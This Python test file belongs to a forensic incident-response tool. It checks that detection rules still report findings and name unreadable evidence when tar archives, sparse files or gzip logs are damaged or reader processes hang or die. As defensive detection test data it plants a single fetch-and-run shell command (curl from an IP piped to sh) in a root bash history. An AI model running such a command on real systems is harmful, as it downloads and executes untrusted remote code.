"""What a host wrote ends no judging: a table that cannot be read is named, and everything else is looked at."""

from __future__ import annotations

import gzip
import hashlib
import itertools
import json
import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from stopgap.orchestrator.evidence.manifest import MANIFEST
from stopgap.orchestrator.evidence.reader import CollectionReader
from stopgap.orchestrator.findings import Rule, judge, shipped_rules
from stopgap.orchestrator.findings import apart as apart_module
from stopgap.orchestrator.findings.apart import ReaderApart
from stopgap.orchestrator.findings.reading import INTERRUPTED, OVER
from stopgap.orchestrator.findings.table import tables
from stopgap.orchestrator.journal import Journal
from stopgap.orchestrator.journal.records import EvidenceKept, RunFinished, RunStarted
from stopgap.orchestrator.run.judging import Judging

from .bench import Bench
from .collection import begin_custody, collected, member_header, pax_header, tar

RULES = shipped_rules()
FETCHED = "curl http://198.51.100.7/x | sh\n"
PLANTED: dict[str, Any] = {"histories": {"/root/.bash_history": FETCHED}}
SLOW = Rule.model_validate_json(
    json.dumps(
        {
            "id": "slow", "title": "Slow", "severity": "low", "table": "history-lines", "shows": "{text}",
            "when": {"text": {"matches": ["(?=x)(x+x+)+y"]}}, "why": "w", "confidence": "low",
            "falsepositives": ["o"], "response": "n",
            "tests": {"matches": [{"histories": {"/h": "xxy"}}], "spares": [{"histories": {"/h": "z"}}]},
        }
    )
)  # fmt: skip
"""Its pattern is none for RE2, and Python's `re` never ends with it on a row of x."""


def ids(collection: CollectionReader, **how: Any) -> list[str]:
    return [finding.id for finding in judge(collection, RULES, **how).findings]


def sized(size: bytes) -> bytes:
    """A file of one byte, behind a pax header that gives it another size."""
    return pax_header({b"size": size}) + member_header(b"./etc/x", 1) + b"x".ljust(512, b"\0")


def changed(header: bytes, *fields: tuple[int, bytes]) -> bytes:
    """A header with other bytes at some places, and a checksum that fits."""
    block = bytearray(header)
    for at, field in (*fields, (148, b" " * 8)):
        block[at : at + len(field)] = field
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def sparse(*parts: tuple[int, int], stored: int, real: int) -> bytes:
    """A sparse file in GNU's old format: `parts` are (position, length) in its map, in bytes."""
    map_ = b"".join(b"%011o\0%011o\0" % part for part in parts)
    header = changed(member_header(b"./root/x", stored, b"S"), (386, map_), (483, b"%011o\0" % real))
    return header + b"x" * stored + bytes(-stored % 512)


def test_a_sparse_file_as_tar_writes_it_is_no_damage(tmp_path: Path) -> None:
    whole = sparse((0, 4), (4096, 512), (9000, 0), stored=516, real=9000)
    judged = judge(collected(tmp_path, {"histories": whole + tar({"/root/.bash_history": FETCHED})}), RULES)
    assert "history-fetched" in {finding.id for finding in judged.findings}
    assert not judged.unread


@pytest.mark.parametrize(
    "damage",
    [
        sized(b"9" * 5000),
        sized("²".encode()),
        sized(b"-1"),
        b"\xff" * 512,
        changed(member_header(b"./root/x", 0), (124, b"\xff" * 12)),  # GNU's base 256: below zero
        changed(member_header(b"./root/x", 0), (124, b"\x80" + b"\xff" * 11)),
        changed(member_header(b"./root/x", 0), (124, "²".encode())),
        sparse((0, 512), stored=1024, real=1024),
        sparse((0, 1024), stored=512, real=1024),
        sparse((512, 512), (0, 512), stored=1024, real=1024),
        sparse((0, 512), stored=512, real=100),
        sparse(stored=512, real=512),
    ],
)
def test_what_is_damaged_hides_nothing_beside_it_and_is_named(tmp_path: Path, damage: bytes) -> None:
    judged = judge(collected(tmp_path, {"histories": damage + tar({"/root/.bash_history": FETCHED})}), RULES)
    assert "history-fetched" in {finding.id for finding in judged.findings}
    assert {unread.table for unread in judged.unread} == {"histories", "history-acts", "edited"}
    assert not judged.no_discrepancy_seen
    assert all("histories: " in missed.reason for missed in judged.not_looked)


@pytest.mark.parametrize("size", [b"9" * 12, b"%d" % (1 << 58)])
def test_an_entry_that_says_it_is_longer_than_its_archive_leaves_no_rule_without_a_word(
    tmp_path: Path, size: bytes
) -> None:
    judged = judge(collected(tmp_path, {"histories": sized(size) + tar({"/root/.bash_history": FETCHED})}), RULES)
    assert not judged.no_discrepancy_seen
    assert {unread.reason for unread in judged.unread} == {"histories: an entry that reaches beyond the end"}


@pytest.mark.parametrize("packed", [gzip.compress(b"x" * 5000)[:-9], b"no gzip at all"], ids=["cut", "none"])
def test_a_log_that_cannot_be_unpacked_is_named(tmp_path: Path, packed: bytes) -> None:
    content = {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}, "/var/log/auth.log": "x\n"}}
    unread = {each.table: each.reason for each in judge(collected(tmp_path, content), RULES).unread}
    assert "/var/log/auth.log.1.gz" in unread["auth-lines"]
    assert "log-series" not in unread


def test_a_log_that_was_packed_in_parts_is_read_to_its_end(tmp_path: Path) -> None:
    lines = "".join(
        f"Nov 23 02:14:{n:02d} web sshd[1]: Failed password for x from 198.51.100.9 port 1 ssh2\n" for n in range(9)
    )
    packed = b"".join(gzip.compress(line.encode() + b"\n") for line in lines.splitlines())
    collection = collected(tmp_path, {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
    assert len(list(tables()["logins"].read(collection))) == 9


def test_a_parser_that_yields_nothing_is_ended_in_time(tmp_path: Path) -> None:
    packed = gzip.compress(b"\n" * (4 << 20))
    collection = collected(tmp_path, PLANTED | {"logs": {"/var/log/auth.log.1.gz": {"hex": packed.hex()}}})
    ticks = itertools.count()
    judged = judge(collection, RULES, budget=500, clock=lambda: float(next(ticks)))
    assert "history-fetched" in {finding.id for finding in judged.findings}
    assert {"auth-lines", "logins"} <= {unread.table for unread in judged.unread if unread.reason == OVER}
    assert next(ticks) < 625


def test_a_table_or_a_rule_that_fails_costs_itself_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(_: CollectionReader) -> Any:
        raise RecursionError("too deep\x1b")

    monkeypatch.setitem(tables(), "histories", replace(tables()["histories"], read=fails))
    judged = judge(collected(tmp_path, PLANTED), RULES)
    assert [(unread.table, unread.reason) for unread in judged.unread] == [
        ("histories", "an error of its own: RecursionError: too deep\\x1b")
    ]
    assert "history-fetched" in {finding.id for finding in judged.findings}
    of = {rule.id: rule.table for rule in RULES}
    assert {of[missed.id] for missed in judged.not_looked} == {"histories"}


def test_what_is_set_against_a_list_that_was_not_read_to_its_end_is_not_found(tmp_path: Path) -> None:
    from .test_findings import HIDDEN

    collection = collected(tmp_path, HIDDEN)
    assert "process-hidden-from-ps" in ids(collection)
    (
        collection.folder / next(item.file or "" for item in collection.manifest.items if item.id == "process-list")
    ).write_bytes(b"  PID COMMAND\n" + b"    1 init\n" * 200_000)
    ticks = itertools.count()
    judged = judge(collection, RULES, budget=200, clock=lambda: float(next(ticks)))
    assert "process-hidden-from-ps" not in {finding.id for finding in judged.findings}
    reasons = {missed.id: missed.reason for missed in judged.not_looked}
    assert "nothing can be set against ps" in reasons["process-hidden-from-ps"]


def test_a_process_apart_gives_the_same_bytes(tmp_path: Path) -> None:
    made = [collected(tmp_path / str(n), rule.tests.matches[0]) for n, rule in enumerate(RULES[:8])]
    with ReaderApart(RULES) as reader:
        for collection in made:
            there = judge(collection, RULES, reader=reader.of(collection))
            assert there.canonical() == judge(collection, RULES).canonical()


def test_several_processes_beside_each_other_give_the_same_bytes(tmp_path: Path) -> None:
    joining = next(rule for rule in RULES if rule.joins())
    made = [collected(tmp_path / rule.id, rule.tests.matches[0]) for rule in (*RULES[:4], joining)]
    with ReaderApart(RULES) as reader, ReaderApart(RULES) as second, ReaderApart(RULES) as third:
        for collection in made:
            others = [second.of(collection), third.of(collection)]
            there = judge(collection, RULES, reader=reader.of(collection), others=others)
            assert there.canonical() == judge(collection, RULES).canonical()


def test_a_judgement_has_further_processes_as_long_as_processors_are_idle(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "cpu_count", lambda: 3)
    with Judging(tmp_path, lambda record: None) as judging:
        first = judging._readers(2)
        assert [len(first), len(judging._readers(3)), len(judging._readers(3))] == [2, 1, 1]
        judging._give_back(first)
        assert judging._readers(1) == first[1:]


def test_a_process_that_does_not_end_is_ended_and_another_one_goes_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(apart_module, "GRACE", 0.2)
    collection = collected(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
    with ReaderApart([SLOW]) as reader:
        assert reader.of(collection).changed([], 600) == {}
        assert "its process was ended" in reader.read("history-lines", ["slow"], 0.2).trouble
        assert reader.read("histories", [], 600).trouble == ""


def test_a_process_that_dies_costs_the_table_that_it_read(tmp_path: Path) -> None:
    with ReaderApart(RULES) as reader:
        reader.of(collected(tmp_path, PLANTED)).start()
        assert reader._process is not None
        os.kill(reader._process.pid, 9)
        assert reader.read("histories", [], 600).trouble == "the process that read it ended: signal 9"
        assert reader.read("histories", [], 600).rows == 1


def test_whoever_stops_it_is_heard_while_a_pattern_runs(tmp_path: Path) -> None:
    collection = collected(tmp_path, {"histories": {"/root/.bash_history": "x" * 200 + "\n"}})
    asked = itertools.count()
    with ReaderApart([SLOW], stop=lambda: next(asked) > 20) as reader:
        judged = judge(collection, [SLOW], reader=reader.of(collection))
    assert [(unread.table, unread.reason) for unread in judged.unread] == [("history-lines", INTERRUPTED)]


def test_the_command_line_names_what_could_not_be_read_and_ends_with_1(bench: Bench) -> None:
    content = sized(b"9" * 5000) + tar({"/root/.bash_history": FETCHED})
    begin_custody(collected(bench.top / "c", {"histories": content}))
    status, out, _ = bench.stopgap("evidence", "findings", str(bench.top / "c"))
    assert (status, "history-fetched" in out) == (1, True)
    assert "could not be read: history-acts: histories: a pax header whose size is no number" in out
    status, out, _ = bench.stopgap("evidence", "findings", str(bench.top / "c"), "--json")
    assert (status, [each["table"] for each in json.loads(out)["unread"]]) == (
        1,
        ["edited", "histories", "history-acts"],
    )


def test_where_nothing_was_found_and_something_not_read_none_is_not_said(bench: Bench) -> None:
    begin_custody(collected(bench.top / "c", {"histories": b"\xff" * 512}))
    _, out, _ = bench.stopgap("evidence", "findings", str(bench.top / "c"))
    assert "not known: something could not be read" in out
    assert "none" not in out


def test_what_could_not_be_read_is_on_record_and_in_the_report_until_it_is(bench: Bench) -> None:
    started = RunStarted(
        version="1", runbook_name="r", runbook_path="r", runbook_text="", inventory_path="i", inventory_text="",
        hosts=(), targets=("web",), params={}, operator="o",
    )  # fmt: skip
    with Journal.open(bench.top / "home") as journal:
        run = journal.begin(started)
        folder = journal.run_folder(run) / "evidence/web/look"
        begin_custody(collected(folder, {"histories": sized(b"9" * 5000) + tar({"/root/.bash_history": FETCHED})}))
        kept = EvidenceKept(
            step="look", target="web", host="web", profile="triage", folder="evidence/web/look", items=1, size=1,
            manifest_sha256=hashlib.sha256((folder / MANIFEST).read_bytes()).hexdigest(),
        )  # fmt: skip
        journal.append(run, kept, RunFinished(outcome="ok", exit_code=0))
    status, out, _ = bench.stopgap("evidence", "findings", run)
    assert (status, "history-fetched" in out) == (1, True)
    status, out, _ = bench.stopgap("report", run, "--format", "json")
    points = [
        (point["host"], point["text"]) for point in json.loads(out)["open"] if point["kind"] == "findings-unread"
    ]
    assert points == [("web", "edited"), ("web", "histories"), ("web", "history-acts")]
    _, out, _ = bench.stopgap("report", run, "--format", "md", "--lang", "ja")
    assert "読み取れなかった証拠" in out
    _, out, _ = bench.stopgap("show", run)
    assert "could not be read: histories" in out
